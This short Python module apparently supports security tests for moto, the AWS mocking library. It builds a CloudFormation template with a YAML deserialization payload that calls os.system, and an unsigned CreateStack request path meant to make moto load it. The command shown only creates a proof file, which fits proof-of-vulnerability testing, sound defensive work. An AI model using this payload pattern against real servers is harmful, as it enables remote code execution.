"""Requests of a hostile page to moto: templates and recordings that would write a file."""

from pathlib import Path
from urllib.parse import urlencode


def template(proof: Path) -> str:
    """Return a CloudFormation template that creates the file when an unsafe YAML loader reads it."""
    return f"!!python/object/apply:os.system ['touch {proof}']"


def create_stack(proof: Path) -> str:
    """Return the path of an unsigned request for which moto would load the template."""
    query = {"Action": "CreateStack", "StackName": "evil", "TemplateBody": template(proof)}
    return f"/cloudformation_us-east-1/cfnresponse?{urlencode(query)}"


START_RECORDING = "/moto-api/recorder/start-recording"
